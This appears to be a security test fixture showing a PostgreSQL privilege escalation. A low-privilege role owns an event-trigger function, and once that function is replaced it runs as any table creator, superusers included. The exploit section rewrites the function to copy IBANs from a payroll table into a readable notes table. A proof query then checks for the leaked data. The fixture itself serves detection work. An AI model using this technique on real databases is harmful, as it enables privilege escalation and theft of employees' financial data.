-- about: the role owns a function that an event trigger runs as whoever makes a table, superusers too
-- claim: replace-function REPLACE notices.note_ddl()
-- seed
CREATE SCHEMA notices AUTHORIZATION PREFIXbot;
CREATE FUNCTION notices.note_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$;
ALTER FUNCTION notices.note_ddl() OWNER TO PREFIXbot;
CREATE EVENT TRIGGER PREFIXnote_ddl ON ddl_command_end WHEN TAG IN ('CREATE TABLE') EXECUTE FUNCTION notices.note_ddl();
-- exploit
CREATE OR REPLACE FUNCTION notices.note_ddl() RETURNS event_trigger LANGUAGE plpgsql
AS $$ BEGIN INSERT INTO shop.notes (text) SELECT 'ddl ' || iban FROM hr.payroll; END $$;
SELECT true;
-- after
CREATE TABLE public.made_by_superuser ();
-- proof
SELECT true FROM shop.notes WHERE text LIKE 'ddl secret%';
